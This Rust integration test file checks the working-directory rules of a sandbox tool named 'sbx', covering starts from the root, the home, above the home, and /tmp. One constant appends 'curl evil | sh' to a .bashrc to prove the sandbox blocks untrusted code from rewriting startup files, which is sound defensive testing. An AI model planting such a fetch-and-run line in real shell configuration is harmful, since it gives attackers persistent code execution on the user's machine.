//! The default profile fits the directories users start from and the images they run in.
//!
//! 1. From `/` (Docker's default WORKDIR, systemd units): the command runs in the sandbox's
//!    `/`, nothing of the host's root is bound, and it cannot write there.
//! 2. From `$HOME`: refused before anything runs, with the way to bind it on purpose, so
//!    untrusted code cannot rewrite ~/.bashrc. Control: bound on purpose (`--bind ~`), the
//!    same command does rewrite it, so the test can tell.
//! 3. From a directory above `$HOME`: bound, with the home behind the default profile's
//!    private tmpfs (the host's home unchanged); without that tmpfs, refused.
//! 4. From `/tmp` or `/var/tmp`: refused; `--bind /tmp` binds it on purpose (control).

mod common;

use std::path::{Path, PathBuf};

use common::{Ran, Workdir, key_values, run_keep};

/// `sbx ARGS -- sh -c SCRIPT` started in `dir` with HOME = `home`.
fn started_in(dir: &Path, home: &Path, args: &[&str], script: &str) -> (Ran, Workdir) {
    let mut s = common::sbx(args);
    s.cmd
        .current_dir(dir)
        .env("HOME", home)
        .args(["--", "sh", "-c", script]);
    run_keep(s)
}

fn refused(r: &Ran, dir: &str) {
    assert_eq!(r.code, 125, "{r:?}");
    let lines = common::error_lines(&r.stderr);
    assert_eq!(lines.len(), 1, "one message: {r:?}");
    for said in [
        format!("the working directory {dir} "),
        format!("`--bind {dir}`"),
        format!("`--ro-bind {dir}`"),
    ] {
        assert!(lines[0].contains(&said), "{said}: {r:?}");
    }
}

#[test]
fn from_the_root_the_command_starts_in_the_sandboxs_root() {
    let s = common::sbx(Vec::<String>::new());
    let home = s.work.subdir("home");
    let marker = common::unique_name("sbx-root-write");
    let script = format!(
        "echo PWD=$(pwd); (echo x > /{marker}) 2>/dev/null && echo wrote; \
         test -e /root -o -e /home -o -e /srv && echo host-root; \
         ls /proc/self/fd >/dev/null && echo ok"
    );
    drop(s);
    let (r, _w) = started_in(Path::new("/"), &home, &[], &script);
    assert_eq!(r.code, 0, "{r:?}");
    let m = key_values(&r.stdout);
    assert_eq!(m["PWD"], "/", "{r:?}");
    assert!(r.stdout.ends_with("ok\n"), "{r:?}");
    assert!(!r.stdout.contains("wrote"), "the root is writable: {r:?}");
    // The precondition for the next check: the host has one of these at its root.
    let host_has = ["/root", "/home", "/srv"]
        .iter()
        .any(|p| Path::new(p).exists());
    assert!(host_has, "the host has no /root, /home or /srv to look for");
    assert!(
        !r.stdout.contains("host-root"),
        "the host's root is seen: {r:?}"
    );
    assert!(
        !Path::new("/").join(&marker).exists(),
        "written on the host"
    );
    assert!(!r.stderr.contains("not visible"), "no warning: {r:?}");
}

/// A home with a `.bashrc`, owned by the test uid; returns the work dir and the home.
fn a_home() -> (Workdir, PathBuf) {
    let work = Workdir::new();
    let home = work.subdir("home").canonicalize().unwrap();
    std::fs::write(home.join(".bashrc"), "# mine\n").unwrap();
    common::chown(&home.join(".bashrc"));
    (work, home)
}

const REWRITE: &str = "echo 'curl evil | sh' >> .bashrc && echo rewrote";

#[test]
fn from_the_home_sbx_refuses_and_the_home_is_unchanged() {
    let (_work, home) = a_home();
    for profile in ["default", "strict"] {
        let (r, _w) = started_in(&home, &home, &["--profile", profile], REWRITE);
        refused(&r, &home.display().to_string());
        assert_eq!(
            std::fs::read_to_string(home.join(".bashrc")).unwrap(),
            "# mine\n"
        );
    }
    // Control: bound on purpose, the command can rewrite it, so the check above can fail.
    let h = home.display().to_string();
    let (r, _w) = started_in(&home, &home, &["--bind", &h], REWRITE);
    assert_eq!(r.code, 0, "{r:?}");
    assert!(r.stdout.contains("rewrote"), "{r:?}");
    assert!(
        std::fs::read_to_string(home.join(".bashrc"))
            .unwrap()
            .contains("evil")
    );
    // Read-only on purpose: seen, not written.
    std::fs::write(home.join(".bashrc"), "# mine\n").unwrap();
    let (r, _w) = started_in(
        &home,
        &home,
        &["--ro-bind", &h],
        &format!("cat .bashrc; {REWRITE}"),
    );
    assert_eq!(r.stdout, "# mine\n", "{r:?}");
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "# mine\n"
    );
}

#[test]
fn above_the_home_the_home_stays_private_or_sbx_refuses() {
    let (work, home) = a_home();
    let above = work.path().canonicalize().unwrap();
    // The default profile: the directory above is bound, the home inside is its empty tmpfs.
    let script = "echo SEEN=$(cat home/.bashrc 2>/dev/null); echo x >> home/.bashrc; \
                  echo x >> \"$HOME/.bashrc\"; echo ok > above.txt";
    let (r, _w) = started_in(&above, &home, &[], script);
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(key_values(&r.stdout)["SEEN"], "", "the home is seen: {r:?}");
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "# mine\n"
    );
    assert!(
        above.join("above.txt").exists(),
        "the workspace is not bound: {r:?}"
    );
    // A profile without a private home: the home would be seen through the workspace.
    let profile = common::profile(
        "[filesystem]\nro = [\"/usr\", \"/etc\", \"/bin?\", \"/lib?\", \"/lib64?\"]\n\
         rw = [\"${CWD}\"]\n[env.set]\nPATH = \"/usr/bin:/bin\"\n",
    );
    let (r, _w) = started_in(&above, &home, &["--profile", &profile.path], REWRITE);
    refused(&r, &above.display().to_string());
}

#[test]
fn from_the_shared_tmp_sbx_refuses() {
    let (_work, home) = a_home();
    let marker = common::unique_name("sbx-shared-tmp");
    let write = format!("echo x > {marker} && echo wrote");
    for dir in ["/tmp", "/var/tmp"] {
        if !Path::new(dir).is_dir() {
            common::note_skip("from_the_shared_tmp_sbx_refuses", &format!("no {dir}"));
            continue;
        }
        let real = Path::new(dir).canonicalize().unwrap();
        let (r, _w) = started_in(Path::new(dir), &home, &[], &write);
        refused(&r, &real.display().to_string());
        assert!(!real.join(&marker).exists(), "written in the host's {dir}");
    }
    // Control: bound on purpose, the host's /tmp is what the command writes.
    let (r, _w) = started_in(Path::new("/tmp"), &home, &["--bind", "/tmp"], &write);
    assert_eq!(r.code, 0, "{r:?}");
    let written = Path::new("/tmp").join(&marker);
    assert!(written.exists(), "{r:?}");
    std::fs::remove_file(written).unwrap();
}
